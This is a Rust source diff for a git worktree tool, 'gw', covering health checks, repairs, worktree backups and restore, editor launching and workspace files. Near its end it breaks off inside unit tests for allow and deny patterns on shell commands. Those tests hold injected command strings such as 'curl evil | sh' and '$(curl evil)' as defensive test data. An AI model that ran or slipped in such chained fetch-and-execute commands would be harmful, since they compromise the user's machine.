+pub fn missing_status_speedups(repo_root: &Path) -> Vec<(&'static str, &'static str)> {
+    let mut speedups = Vec::new();
+    if !git_ops::untracked_cache_enabled(repo_root) {
+        speedups.push(("core.untrackedCache", "true"));
+    }
+    if !git_ops::fsmonitor_enabled(repo_root) && git_ops::builtin_fsmonitor_supported() {
+        speedups.push(("core.fsmonitor", "true"));
     }
+    speedups
+}
 
+/// Turns on the settings from [`missing_status_speedups`] in the shared
+/// config, so every worktree picks them up.
+pub fn enable_status_speedups(
+    repo_root: &Path,
+    speedups: &[(&'static str, &'static str)],
+) -> Result<()> {
+    for (key, value) in speedups {
+        git_ops::set_config(repo_root, key, value)
+            .map_err(|err| anyhow!("could not set {key}: {err}"))?;
+    }
     Ok(())
 }
 
@@ -264,53 +1842,216 @@ pub fn health_check(repo_root: &Path) -> Result<HealthReport> {
     let branches = git_ops::list_local_branches(repo_root)?;
     let branch_set: HashSet<String> = branches.iter().cloned().collect();
     let is_bare = git_ops::is_bare_repo(repo_root)?;
+    let layout = settings::load_layout(repo_root)?;
     let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
 
-    let repo_abs = repo_root
-        .canonicalize()
-        .unwrap_or_else(|_| repo_root.to_path_buf());
+    // Branch worktrees live under `base`: the repo root itself, or the
+    // configured worktrees directory next to the hub checkout.
+    let (base, scope) = match &layout {
+        RepoLayout::Bare => (repo_root.to_path_buf(), "repo root"),
+        RepoLayout::Hub { worktrees_dir } => (worktrees_dir.clone(), "worktrees directory"),
+    };
+    let base_abs = git_ops::canonicalize(&base);
+
+    let broken_links = git_ops::find_broken_worktree_links(repo_root, &base)?;
+    let admin_entries = git_ops::list_worktree_admin_entries(repo_root)?;
+    let admin_dir_for = |path: &Path| {
+        admin_entries
+            .iter()
+            .find(|(_, registered)| registered == path)
+            .map(|(admin_dir, _)| admin_dir.clone())
+    };
+
+    let repo_abs = git_ops::canonicalize(repo_root);
 
     let mut branch_counts: HashMap<String, usize> = HashMap::new();
     let mut mapped_branches = HashSet::new();
     let mut orphaned_worktrees = Vec::new();
+    let mut path_issues = Vec::new();
     let mut unrecoverable_reasons = Vec::new();
 
+    // Entries whose link gets repaired are still registered under their old
+    // location; judge them by the directory they will point to instead.
+    let (repairing, worktrees): (Vec<ParsedWorktree>, Vec<ParsedWorktree>) =
+        worktrees.into_iter().partition(|wt| {
+            broken_links
+                .iter()
+                .any(|link| link.registered_path.as_deref() == Some(wt.path.as_path()))
+        });
+    for wt in &repairing {
+        if !wt.branch.is_empty() && wt.branch != "(detached)" {
+            mapped_branches.insert(wt.branch.clone());
+        }
+    }
+
+    // Several registrations of one directory: keep the one its `.git` file
+    // points at and unregister the rest.
+    let mut registrations: HashMap<PathBuf, Vec<&ParsedWorktree>> = HashMap::new();
     for wt in &worktrees {
-        let path_abs = wt.path.canonicalize().unwrap_or_else(|_| wt.path.clone());
-        if !path_abs.starts_with(&repo_abs) {
-            unrecoverable_reasons.push(format!(
-                "worktree path is outside repo root: {}",
-                wt.path.display()
+        let path_abs = git_ops::canonicalize(&wt.path);
+        registrations.entry(path_abs).or_default().push(wt);
+    }
+    let mut duplicate_paths = HashSet::new();
+    for (real_path, entries) in &registrations {
+        if entries.len() < 2 {
+            continue;
+        }
+        let live_admin = git_ops::worktree_admin_dir(real_path);
+        let live = entries
+            .iter()
+            .find(|wt| live_admin.is_some() && admin_dir_for(&wt.path) == live_admin);
+        let Some(live) = live else {
+            unrecoverable_reasons.push(UnrecoverableIssue::new(
+                UnrecoverableCode::DuplicateRegistration,
+                format!(
+                    "directory {} is registered as {} worktrees",
+                    display_path(repo_root, real_path),
+                    entries.len()
+                ),
             ));
             continue;
+        };
+        for wt in entries.iter().filter(|wt| wt.path != live.path) {
+            duplicate_paths.insert(wt.path.clone());
+            path_issues.push(WorktreePathIssue {
+                kind: PathIssueKind::Duplicate,
+                path: wt.path.clone(),
+                real_path: real_path.clone(),
+                admin_dir: admin_dir_for(&wt.path),
+                target: None,
+                detail: format!("same directory as {}", display_path(repo_root, &live.path)),
+            });
+        }
+    }
+
+    let mut placed: Vec<(PathBuf, &ParsedWorktree)> = Vec::new();
+    for wt in &worktrees {
+        // `gw review` and `gw new --tag` worktrees are detached on purpose.
+        if duplicate_paths.contains(&wt.path)
+            || review::review_number(&wt.path).is_some()
+            || tags::tag_name(&wt.path).is_some()
+        {
+            continue;
+        }
+
+        // Locked worktrees (`git worktree lock`, e.g. on a removable drive)
+        // stay where they are; git refuses to move or remove them anyway.
+        if wt.locked.is_some() {
+            if branch_set.contains(&wt.branch) {
+                mapped_branches.insert(wt.branch.clone());
+                *branch_counts.entry(wt.branch.clone()).or_insert(0) += 1;
+            }
+            continue;
+        }
+
+        let path_abs = git_ops::canonicalize(&wt.path);
+        if path_abs == repo_abs {
+            // The checkout at the root of a non-bare repo may be on any branch.
+            if branch_set.contains(&wt.branch) {
+                mapped_branches.insert(wt.branch.clone());
+                *branch_counts.entry(wt.branch.clone()).or_insert(0) += 1;
+            }
+            continue;
+        }
+
+        if !path_abs.starts_with(&base_abs) {
+            let admin_dir = admin_dir_for(&wt.path);
+            let escape = symlink_escape_issue(
+                repo_root,
+                &base,
+                scope,
+                wt,
+                &path_abs,
+                &branch_set,
+                admin_dir,
+            );
+            match escape {
+                Some(Ok(issue)) => {
+                    mapped_branches.insert(wt.branch.clone());
+                    path_issues.push(issue);
+                }
+                Some(Err(reason)) => unrecoverable_reasons.push(reason),
+                None => unrecoverable_reasons.push(UnrecoverableIssue::new(
+                    UnrecoverableCode::OutsideRoot,
+                    format!(
+                        "worktree path is outside {scope}: {}",
+                        display_path(repo_root, &wt.path)
+                    ),
+                )),
+            }
+            continue;
         }
 
         if wt.branch.is_empty() || wt.branch == "(detached)" || !branch_set.contains(&wt.branch) {
-            orphaned_worktrees.push(wt.path.clone());
+            orphaned_worktrees.push(OrphanedWorktree {
+                path: wt.path.clone(),
+                head: git_ops::worktree_head_commit(&wt.path),
+                adopt_branch: adoption_branch_name(repo_root, &base_abs, wt, &path_abs),
+            });
             continue;
         }
 
         mapped_branches.insert(wt.branch.clone());
-        let entry = branch_counts.entry(wt.branch.clone()).or_insert(0);
-        *entry += 1;
+        *branch_counts.entry(wt.branch.clone()).or_insert(0) += 1;
+        placed.push((path_abs, wt));
+    }
+
+    for (inner_abs, inner) in &placed {
+        let Some((outer_abs, _)) = placed
+            .iter()
+            .find(|(outer_abs, _)| outer_abs != inner_abs && inner_abs.starts_with(outer_abs))
+        else {
+            continue;
+        };
+        let target = worktree_path_for_branch(&repo_abs, &inner.branch);
+        if target.starts_with(outer_abs) || !git_ops::is_path_available(&target) {
+            unrecoverable_reasons.push(UnrecoverableIssue::new(
+                UnrecoverableCode::NestedWorktree,
+                format!(
+                    "worktree {} is nested inside worktree {}; move one of them manually",
+                    display_path(repo_root, &inner.path),
+                    display_path(repo_root, outer_abs)
+                ),
+            ));
+            continue;
+        }
+        path_issues.push(WorktreePathIssue {
+            kind: PathIssueKind::Nested,
+            path: inner.path.clone(),
+            real_path: inner_abs.clone(),
+            admin_dir: admin_dir_for(&inner.path),
+            target: Some(target),
+            detail: format!("inside worktree {}", display_path(repo_root, outer_abs)),
+        });
     }
 
     for (branch, count) in branch_counts {
         if count > 1 {
-            unrecoverable_reasons.push(format!(
-                "branch {branch} is checked out in {count} worktrees"
+            unrecoverable_reasons.push(UnrecoverableIssue::new(
+                UnrecoverableCode::BranchInSeveralWorktrees,
+                format!("branch {branch} is checked out in {count} worktrees"),
             ));
         }
     }
 
+    let worktree_paths: Vec<PathBuf> = worktrees
+        .iter()
+        .filter(|wt| !duplicate_paths.contains(&wt.path))
+        .map(|wt| git_ops::canonicalize(&wt.path))
+        .chain(broken_links.iter().map(|link| link.path.clone()))
+        .filter(|path| *path != repo_abs)
+        .collect();
+
+    // Branches left without a worktree on purpose (`noWorktreeBranches`).
+    let no_worktree = settings::load_no_worktree_branches(repo_root)?;
     let mut missing_worktrees = Vec::new();
     for branch in branches {
-        if !mapped_branches.contains(&branch) {
-            let target = repo_root.join(&branch);
-            if target.exists() {
-                unrecoverable_reasons.push(format!(
-                    "missing worktree for branch {branch}, but target path already exists: {}",
-                    target.display()
+        if !mapped_branches.contains(&branch) && !is_no_worktree_branch(&no_worktree, &branch) {
+            let target = new_worktree_path(&repo_abs, &branch, &worktrees);
+            if let Some(conflict) = worktree_target_conflict(&target, &worktree_paths) {
+                unrecoverable_reasons.push(UnrecoverableIssue::new(
+                    UnrecoverableCode::WorktreePathTaken,
+                    format!("missing worktree for branch {branch}, but {conflict}"),
                 ));
             } else {
                 missing_worktrees.push(branch);
@@ -318,39 +2059,695 @@ pub fn health_check(repo_root: &Path) -> Result<HealthReport> {
         }
     }
 
-    if !is_bare {
-        unrecoverable_reasons
-            .push("repository root is not bare; run `gw init` to convert layout".to_string());
+    match layout {
+        RepoLayout::Bare if !is_bare => unrecoverable_reasons.push(UnrecoverableIssue::new(
+            UnrecoverableCode::NotBare,
+            "repository root is not bare; run `gw init` to convert layout".to_string(),
+        )),
+        RepoLayout::Hub { .. } if is_bare => unrecoverable_reasons.push(UnrecoverableIssue::new(
+            UnrecoverableCode::HubRepoBare,
+            "hub layout is configured in .gw/settings.json, but the repository is bare".to_string(),
+        )),
+        _ => {}
     }
 
+    let mut broken_worktrees = broken_links;
+
     missing_worktrees.sort();
-    orphaned_worktrees.sort();
-    orphaned_worktrees.dedup();
-    unrecoverable_reasons.sort();
+    orphaned_worktrees.sort_by(|a, b| a.path.cmp(&b.path));
+    orphaned_worktrees.dedup_by(|a, b| a.path == b.path);
+    broken_worktrees.sort_by(|a, b| a.path.cmp(&b.path));
+    path_issues.sort_by(|a, b| a.path.cmp(&b.path));
+    unrecoverable_reasons.sort_by(|a, b| a.message.cmp(&b.message));
     unrecoverable_reasons.dedup();
 
     Ok(HealthReport {
         missing_worktrees,
         orphaned_worktrees,
+        broken_worktrees,
+        path_issues,
         unrecoverable_reasons,
     })
 }
 
-pub fn doctor_repo(repo_root: &Path, report: &HealthReport) -> Result<()> {
+/// Applies the fixes enabled in `plan`. Orphaned worktrees that get deleted
+/// are backed up first (see `gw restore`); the backups are returned.
+pub fn doctor_repo(
+    repo_root: &Path,
+    report: &HealthReport,
+    plan: &RepairPlan,
+) -> Result<Vec<WorktreeBackup>> {
     if !report.is_recoverable() {
         return Err(anyhow!(
             "gw: setup has unrecoverable issues; run `gw init` first"
         ));
     }
+    // Repairs move and delete directories themselves; the checklist is the
+    // preview.
+    if git_ops::dry_run() {
+        return Err(anyhow!("gw: repairs are not run in a dry run"));
+    }
+
+    // Snapshot everything that is about to be deleted before changing anything,
+    // so a failed backup leaves the repo as it was.
+    let deletions: Vec<&OrphanedWorktree> = report
+        .orphaned_worktrees
+        .iter()
+        .filter(|orphan| plan.deletes_orphan(orphan))
+        .collect();
+    let mut backups = Vec::new();
+    for orphan in &deletions {
+        let backup = backup_worktree(
+            repo_root,
+            &orphan.path,
+            orphan.head.as_deref(),
+            orphan.adopt_branch.as_deref(),
+        )
+        .map_err(|err| anyhow!("gw: failed to back up {}: {err}", orphan.path.display()))?;
+        backups.push(backup);
+    }
+
+    let relinks: Vec<BrokenWorktreeLink> = report
+        .broken_worktrees
+        .iter()
+        .filter(|link| !plan.skipped_relinks.contains(&link.path))
+        .cloned()
+        .collect();
+    if !relinks.is_empty() {
+        git_ops::worktree_repair(repo_root, &relinks)?;
+        // Pruning would also drop the admin entries of skipped relinks.
+        if relinks.len() == report.broken_worktrees.len() {
+            git_ops::prune_worktrees(repo_root);
+        }
+    }
+
+    for issue in &report.path_issues {
+        if plan.skipped_path_fixes.contains(&issue.path) {
+            continue;
+        }
+        fix_path_issue(repo_root, issue)?;
+    }
 
-    for path in &report.orphaned_worktrees {
-        git_ops::worktree_remove(repo_root, path)?;
+    for orphan in &report.orphaned_worktrees {
+        match (plan.orphan_action(orphan), orphan.adopt_branch.as_deref()) {
+            (OrphanAction::Skip, _) => {}
+            (OrphanAction::Adopt, Some(branch)) => adopt_worktree(repo_root, orphan, branch)?,
+            _ => remove_worktree(repo_root, &orphan.path)?,
+        }
     }
 
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    let mut ignored = Vec::new();
+    let mut targets = Vec::new();
     for branch in &report.missing_worktrees {
-        let target: PathBuf = repo_root.join(branch);
-        git_ops::worktree_add(repo_root, &target, branch, None)?;
+        if plan.ignored_branches.contains(branch) {
+            ignored.push(branch.clone());
+        } else if !plan.deferred_branches.contains(branch) {
+            let target = new_worktree_path(repo_root, branch, &worktrees);
+            targets.push((branch.clone(), target));
+        }
+    }
+    add_worktrees(repo_root, &targets, &mut Vec::new(), &mut |_| {})?;
+    if !ignored.is_empty() {
+        settings::add_no_worktree_branches(repo_root, &ignored)?;
+    }
+
+    Ok(backups)
+}
+
+const BACKUP_REF_PREFIX: &str = "refs/gw/backup/";
+
+/// Snapshots the files of the worktree at `path` into a backup ref. `branch`
+/// is the branch the worktree should come back on when restored.
+pub fn backup_worktree(
+    repo_root: &Path,
+    path: &Path,
+    head: Option<&str>,
+    branch: Option<&str>,
+) -> Result<WorktreeBackup> {
+    let created_ts = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or(0);
+    let path_s = path.display().to_string();
+    let id = format!("{created_ts}-{}", short_hash(&path_s));
+
+    let mut message = format!("gw backup of {path_s}\n\nGw-Path: {path_s}\n");
+    if let Some(branch) = branch {
+        message.push_str(&format!("Gw-Branch: {branch}\n"));
+    }
+    let commit = git_ops::snapshot_worktree(
+        repo_root,
+        path,
+        head,
+        &message,
+        &format!("{BACKUP_REF_PREFIX}{id}"),
+    )?;
+
+    Ok(WorktreeBackup {
+        id,
+        commit,
+        created: "just now".to_string(),
+        path: path.to_path_buf(),
+        branch: branch.map(str::to_string),
+    })
+}
+
+/// Backups taken by `doctor_repo` and snapshot-then-delete, newest first.
+pub fn list_backups(repo_root: &Path) -> Result<Vec<WorktreeBackup>> {
+    let mut backups = Vec::new();
+    for (ref_name, commit, created) in git_ops::list_refs(repo_root, BACKUP_REF_PREFIX)? {
+        let Some(id) = ref_name.strip_prefix(BACKUP_REF_PREFIX) else {
+            continue;
+        };
+        let message = git_ops::commit_message(repo_root, &commit)?;
+        let field = |key: &str| {
+            message
+                .lines()
+                .find_map(|line| line.strip_prefix(key))
+                .map(|value| value.trim().to_string())
+                .filter(|value| !value.is_empty())
+        };
+        backups.push(WorktreeBackup {
+            id: id.to_string(),
+            commit,
+            created,
+            path: field("Gw-Path:").map(PathBuf::from).unwrap_or_default(),
+            branch: field("Gw-Branch:"),
+        });
+    }
+    Ok(backups)
+}
+
+/// Recreates the worktree saved in backup `name` (or the newest backup of the
+/// branch `name`) on a new branch (the recorded one unless `branch` is
+/// given) and drops the backup ref. Returns the branch and the worktree path.
+pub fn restore_backup(
+    repo_root: &Path,
+    name: &str,
+    branch: Option<&str>,
+) -> Result<(String, PathBuf)> {
+    let backup = list_backups(repo_root)?
+        .into_iter()
+        .find(|backup| backup.id == name || backup.branch.as_deref() == Some(name))
+        .ok_or_else(|| anyhow!("gw restore: no trashed worktree or backup named {name}"))?;
+    let id = &backup.id;
+    let branch = branch
+        .map(str::to_string)
+        .or_else(|| backup.branch.clone())
+        .ok_or_else(|| {
+            anyhow!("gw restore: backup {id} has no recorded branch; pass --branch <name>")
+        })?;
+
+    if !git_ops::is_valid_branch_name(repo_root, &branch) {
+        return Err(anyhow!("gw restore: invalid branch name {branch}"));
+    }
+    if git_ops::branch_exists(repo_root, &branch) {
+        return Err(anyhow!(
+            "gw restore: branch {branch} already exists; pass --branch <name>"
+        ));
+    }
+    let parent = git_ops::commit_parent(repo_root, &backup.commit).ok_or_else(|| {
+        anyhow!(
+            "gw restore: backup {id} has no base commit; check out its files with `git restore --source={BACKUP_REF_PREFIX}{id}`"
+        )
+    })?;
+    let worktrees = git_ops::parse_worktrees(Some(repo_root))?;
+    let target = new_worktree_path(repo_root, &branch, &worktrees);
+    if !git_ops::is_path_available(&target) {
+        return Err(anyhow!(
+            "gw restore: target path already exists: {}",
+            target.display()
+        ));
+    }
+
+    git_ops::worktree_add(repo_root, &target, &branch, Some(&parent))?;
+    record_worktree_path(repo_root, &branch, &target);
+    git_ops::restore_worktree_files(&target, &backup.commit)?;
+    git_ops::delete_ref(repo_root, &format!("{BACKUP_REF_PREFIX}{id}"))?;
+    Ok((branch, target))
+}
+
+/// A worktree living outside `base` (the repo root or worktrees directory) but
+/// reachable through a symlink inside it, either the registered path itself
+/// or the branch's expected path. The fix moves the real directory into
+/// `base`. Returns `None` if no such symlink exists.
+fn symlink_escape_issue(
+    repo_root: &Path,
+    base: &Path,
+    scope: &str,
+    wt: &ParsedWorktree,
+    path_abs: &Path,
+    branch_set: &HashSet<String>,
+    admin_dir: Option<PathBuf>,
+) -> Option<std::result::Result<WorktreePathIssue, UnrecoverableIssue>> {
+    let is_symlink =
+        |path: &Path| std::fs::symlink_metadata(path).is_ok_and(|meta| meta.is_symlink());
+    let unrecoverable =
+        |message: String| UnrecoverableIssue::new(UnrecoverableCode::SymlinkEscape, message);
+    let has_branch =
+        !wt.branch.is_empty() && wt.branch != "(detached)" && branch_set.contains(&wt.branch);
+    let base_abs = git_ops::canonicalize(base);
+    let inside_lexically = wt.path.starts_with(base) || wt.path.starts_with(&base_abs);
+
+    if inside_lexically && !is_symlink(&wt.path) {
+        return Some(Err(unrecoverable(format!(
+            "worktree {} resolves outside the {scope} through a symlinked parent directory",
+            display_path(repo_root, &wt.path)
+        ))));
+    }
+    if !has_branch {
+        return inside_lexically.then(|| {
+            Err(unrecoverable(format!(
+                "worktree {} is a symlink outside the {scope} and has no branch",
+                display_path(repo_root, &wt.path)
+            )))
+        });
+    }
+
+    let target = worktree_path_for_branch(repo_root, &wt.branch);
+    let link = if inside_lexically {
+        wt.path.clone()
+    } else if is_symlink(&target) && git_ops::canonicalize(&target) == path_abs {
+        target.clone()
+    } else {
+        return None;
+    };
+
+    let Some(admin_dir) = admin_dir else {
+        return Some(Err(unrecoverable(format!(
+            "worktree {} is symlinked into the {scope} but its git admin entry is missing",
+            display_path(repo_root, &wt.path)
+        ))));
+    };
+    if target != link && !git_ops::is_path_available(&target) {
+        return Some(Err(unrecoverable(format!(
+            "worktree {} is symlinked into the {scope}, but target path already exists: {}",
+            display_path(repo_root, &wt.path),
+            display_path(repo_root, &target)
+        ))));
+    }
+
+    let detail = if link == wt.path {
+        format!("symlink to {}", display_path(repo_root, path_abs))
+    } else {
+        format!("symlinked at {}", display_path(repo_root, &link))
+    };
+    Some(Ok(WorktreePathIssue {
+        kind: PathIssueKind::SymlinkEscape,
+        path: wt.path.clone(),
+        real_path: path_abs.to_path_buf(),
+        admin_dir: Some(admin_dir),
+        target: Some(target),
+        detail,
+    }))
+}
+
+/// `path` for display: relative to the repo root when inside it
+/// (`feat/login`), otherwise with the home directory shortened to `~`.
+pub fn display_path(repo_root: &Path, path: &Path) -> String {
+    match path.strip_prefix(repo_root) {
+        Ok(rel) if !rel.as_os_str().is_empty() => rel.display().to_string(),
+        _ => tilde_path(path),
+    }
+}
+
+/// `path` with the home directory replaced by `~`, e.g. `~/src/app`.
+pub fn tilde_path(path: &Path) -> String {
+    match dirs::home_dir().and_then(|home| path.strip_prefix(home).ok().map(Path::to_path_buf)) {
+        Some(rel) => Path::new("~").join(rel).display().to_string(),
+        None => path.display().to_string(),
+    }
+}
+
+/// One-line description of what applying `fix` does under `plan`, with
+/// paths shortened by [`display_path`].
+pub fn describe_repair_fix(
+    repo_root: &Path,
+    report: &HealthReport,
+    plan: &RepairPlan,
+    fix: &RepairFix,
+) -> String {
+    let show = |path: &Path| display_path(repo_root, path);
+    match fix {
+        RepairFix::Relink(path) => format!("repair git links of {}", show(path)),
+        RepairFix::PathIssue(path) => {
+            let Some(issue) = report.path_issue(path) else {
+                return format!("fix location of {}", show(path));
+            };
+            let target = issue.target.as_deref().map(show).unwrap_or_default();
+            match issue.kind {
+                PathIssueKind::Duplicate => format!(
+                    "unregister duplicate worktree entry {} ({})",
+                    show(path),
+                    issue.detail
+                ),
+                PathIssueKind::Nested => format!(
+                    "move nested worktree {} ({}) to {target}",
+                    show(path),
+                    issue.detail
+                ),
+                PathIssueKind::SymlinkEscape => format!(
+                    "move {} ({}) into the repo at {target}",
+                    show(path),
+                    issue.detail
+                ),
+            }
+        }
+        RepairFix::Orphan(path) => {
+            let Some(orphan) = report.orphan(path) else {
+                return format!("delete {}", show(path));
+            };
+            match (plan.orphan_action(orphan), orphan.adopt_branch.as_deref()) {
+                (OrphanAction::Adopt, Some(branch)) => {
+                    format!("adopt {} as branch {branch}", show(path))
+                }
+                (_, Some(branch)) => {
+                    format!("delete {} (can be adopted as {branch})", show(path))
+                }
+                _ => format!("delete {}", show(path)),
+            }
+        }
+        RepairFix::CreateWorktree(branch) if plan.ignored_branches.contains(branch) => {
+            format!("never create a worktree for {branch} (add it to noWorktreeBranches)")
+        }
+        RepairFix::CreateWorktree(branch) => format!("create worktree for {branch}"),
+    }
+}
+
+fn fix_path_issue(repo_root: &Path, issue: &WorktreePathIssue) -> Result<()> {
+    let missing =
+        |what: &str| anyhow!("gw: cannot fix {}; {what} is unknown", issue.path.display());
+    match issue.kind {
+        PathIssueKind::Duplicate => {
+            let admin_dir = issue
+                .admin_dir
+                .as_deref()
+                .ok_or_else(|| missing("admin entry"))?;
+            git_ops::unregister_worktree(admin_dir)
+        }
+        PathIssueKind::Nested => {
+            let target = issue
+                .target
+                .as_deref()
+                .ok_or_else(|| missing("target path"))?;
+            move_worktree(repo_root, &issue.path, target)
+        }
+        PathIssueKind::SymlinkEscape => {
+            let target = issue
+                .target
+                .as_deref()
+                .ok_or_else(|| missing("target path"))?;
+            let admin_dir = issue
+                .admin_dir
+                .as_deref()
+                .ok_or_else(|| missing("admin entry"))?;
+            git_ops::relocate_worktree(repo_root, &issue.path, &issue.real_path, target, admin_dir)
+        }
+    }
+}
+
+/// Recreates the branch an orphaned worktree should be on, at the commit it is
+/// sitting on, and attaches the worktree to it.
+fn adopt_worktree(repo_root: &Path, orphan: &OrphanedWorktree, branch: &str) -> Result<()> {
+    let head = orphan.head.as_deref().ok_or_else(|| {
+        anyhow!(
+            "gw: cannot adopt {}; its HEAD commit is unknown",
+            orphan.path.display()
+        )
+    })?;
+    git_ops::branch_create(repo_root, branch, head)?;
+    git_ops::switch_branch(&orphan.path, branch)?;
+    Ok(())
+}
+
+/// Branch an orphaned worktree can be adopted as: the deleted branch it still
+/// points at, or for detached worktrees the branch its path corresponds to.
+fn adoption_branch_name(
+    repo_root: &Path,
+    base_abs: &Path,
+    wt: &ParsedWorktree,
+    path_abs: &Path,
+) -> Option<String> {
+    let name = if !wt.branch.is_empty() && wt.branch != "(detached)" {
+        wt.branch.clone()
+    } else {
+        let rel = rel_path_string(path_abs.strip_prefix(base_abs).ok()?);
+        CacheDB::open(repo_root)
+            .ok()
+            .and_then(|db| db.get_path_branch(&rel).ok().flatten())
+            .unwrap_or(rel)
+    };
+
+    if name.is_empty()
+        || !git_ops::is_valid_branch_name(repo_root, &name)
+        || git_ops::branch_exists(repo_root, &name)
+    {
+        return None;
     }
+    Some(name)
+}
+
+/// Runs `editor` (a shell command, e.g. `code -n`) on `path` from inside the
+/// worktree (or the file's directory). With `wait`, returns once the editor
+/// exits and fails if it did; otherwise returns as soon as it started.
+pub fn open_in_editor(editor: &str, path: &Path, wait: bool) -> Result<()> {
+    #[cfg(unix)]
+    let mut command = {
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg(format!("{editor} \"$1\""))
+            .arg("sh")
+            .arg(path);
+        command
+    };
+    #[cfg(windows)]
+    let mut command = {
+        let mut command = Command::new("cmd");
+        command
+            .arg("/C")
+            .arg(format!("{editor} \"{}\"", path.display()));
+        command
+    };
+    command.current_dir(if path.is_dir() {
+        path
+    } else {
+        path.parent().unwrap_or(path)
+    });
 
+    if !wait {
+        command
+            .stdin(Stdio::null())
+            .spawn()
+            .map_err(|err| anyhow!("cannot run `{editor}`: {err}"))?;
+        return Ok(());
+    }
+    // The shell function captures stdout to find a directory to `cd` into,
+    // so terminal editors get stderr's terminal instead.
+    let status = command
+        .stdout(io::stderr())
+        .status()
+        .map_err(|err| anyhow!("cannot run `{editor}`: {err}"))?;
+    if !status.success() {
+        return Err(anyhow!("`{editor}` exited with {status}"));
+    }
     Ok(())
 }
+
+/// Runs `command` with `sh -c` (`cmd /C` on Windows) in `dir` in place of gw,
+/// so its exit status becomes gw's. Only returns if it could not be started.
+pub fn exec_in(command: &str, dir: &Path) -> Result<()> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::process::CommandExt;
+        let err = Command::new("sh")
+            .arg("-c")
+            .arg(command)
+            .current_dir(dir)
+            .exec();
+        Err(anyhow!("cannot run `{command}`: {err}"))
+    }
+    #[cfg(windows)]
+    {
+        let status = Command::new("cmd")
+            .arg("/C")
+            .arg(command)
+            .current_dir(dir)
+            .status()
+            .map_err(|err| anyhow!("cannot run `{command}`: {err}"))?;
+        std::process::exit(status.code().unwrap_or(1));
+    }
+}
+
+/// Writes `<repo>.code-workspace` next to the worktrees with one folder per
+/// worktree, named by branch, default branch first. Other keys of an
+/// existing file (`settings`, `extensions`, ...) are kept. Returns its path.
+pub fn write_code_workspace(repo_root: &Path) -> Result<PathBuf> {
+    let dir = worktrees_dir(repo_root);
+    let name = repo_root
+        .file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+        .unwrap_or_else(|| "gw".to_string());
+    let path = dir.join(format!("{name}.code-workspace"));
+
+    let mut workspace = if path.exists() {
+        let text = std::fs::read_to_string(&path)?;
+        serde_json::from_str::<serde_json::Value>(&text)
+            .ok()
+            .filter(serde_json::Value::is_object)
+            .ok_or_else(|| {
+                anyhow!(
+                    "{} is not plain JSON (comments?); remove it to regenerate",
+                    path.display()
+                )
+            })?
+    } else {
+        serde_json::json!({})
+    };
+
+    let default_branch = git_ops::get_default_branch(repo_root);
+    let mut items = load_worktrees(repo_root)?;
+    items.sort_by(|a, b| {
+        (a.branch != default_branch, &a.branch).cmp(&(b.branch != default_branch, &b.branch))
+    });
+    let folders: Vec<serde_json::Value> = items
+        .iter()
+        .map(|item| {
+            let folder = item.path.strip_prefix(&dir).unwrap_or(&item.path);
+            serde_json::json!({
+                "name": item.branch,
+                "path": folder.display().to_string(),
+            })
+        })
+        .collect();
+    workspace["folders"] = serde_json::Value::Array(folders);
+
+    let mut text = serde_json::to_string_pretty(&workspace)?;
+    text.push('\n');
+    std::fs::write(&path, text)?;
+    Ok(path)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parsed(path: PathBuf, branch: &str) -> ParsedWorktree {
+        ParsedWorktree {
+            path,
+            branch: branch.to_string(),
+            head: String::new(),
+            locked: None,
+            prunable: None,
+        }
+    }
+
+    #[test]
+    fn new_worktree_paths_avoid_case_clashes_with_listed_worktrees() {
+        let _fakes = git_ops::lock_fakes();
+        let root = std::env::temp_dir().join("gw-test-no-repo");
+        let worktrees = [parsed(root.join("feat/login"), "feat/login")];
+
+        assert_eq!(
+            new_worktree_path(&root, "feat/signup", &worktrees),
+            root.join("feat/signup")
+        );
+        assert_eq!(
+            new_worktree_path(&root, "feat/login", &worktrees),
+            root.join("feat/login")
+        );
+        assert_eq!(
+            new_worktree_path(&root, "feat/Login", &worktrees),
+            root.join(format!("feat/Login-{}", short_hash("feat/Login")))
+        );
+        assert_eq!(
+            worktree_path_for_branch(&root, "feat/Login"),
+            root.join("feat/Login")
+        );
+    }
+
+    #[test]
+    fn policy_globs_do_not_cross_shell_operators() {
+        assert!(policy_pattern_matches("git *", "git status"));
+        assert!(!policy_pattern_matches(
+            "git *",
+            "git status; curl evil | sh"
+        ));
+        assert!(!policy_pattern_matches("git *", "git status && curl evil"));
+        assert!(!policy_pattern_matches("git *", "git log | sh"));
+        assert!(!policy_pattern_matches("git *", "git log `curl evil`"));
+        assert!(!policy_pattern_matches("git *", "git log $(curl evil)"));
+        assert!(!policy_pattern_matches("git *", "git log > ~/.bashrc"));
+        assert!(!policy_pattern_matches("git *", "git status\ncurl evil"));
+        assert!(!policy_pattern_matches("git?status", "git;status"));
+    }
+
+    #[test]
+    fn policy_operators_spelled_out_in_the_pattern_match() {
+        assert!(policy_pattern_matches(
+            "npm ci && npm run *",
+            "npm ci && npm run build"
+        ));
+        assert!(!policy_pattern_matches(
+            "npm ci && npm run *",
+            "npm ci && npm run build; curl evil"
+        ));
+        assert!(policy_pattern_matches(
+            "make | tee *",
+            "make | tee build.log"
+        ));
+    }
+
+    #[test]
+    fn policy_single_word_patterns_match_simple_commands_only() {
+        assert!(policy_pattern_matches("npm", "npm ci"));
+        assert!(policy_pattern_matches(
+            "/usr/bin/direnv *",
+            "/usr/bin/direnv allow"
+        ));
+        assert!(!policy_pattern_matches("direnv", "/usr/bin/direnv allow"));
+        assert!(!policy_pattern_matches("npm", "./scripts/npm ci"));
+        assert!(!policy_pattern_matches("npm", "tools/npm ci"));
+        assert!(!policy_pattern_matches("npm*", "tools/npm ci"));
+        assert!(!policy_pattern_matches("npm", "npm ci && curl evil"));
+        assert!(!policy_pattern_matches("npm", "curl evil"));
+    }
+
+    #[test]
+    fn deny_patterns_match_chained_commands() {
+        assert!(deny_pattern_matches("curl*", "curl evil"));
+        assert!(deny_pattern_matches("curl*", "git status; curl evil | sh"));
+        assert!(deny_pattern_matches("sh", "git log | sh"));
+        assert!(deny_pattern_matches("curl", "git log $(curl evil)"));
+        assert!(!deny_pattern_matches("curl*", "git status"));
+    }
+
+    #[test]
+    fn deny_patterns_see_through_keywords_assignments_and_wrappers() {
+        for command in [
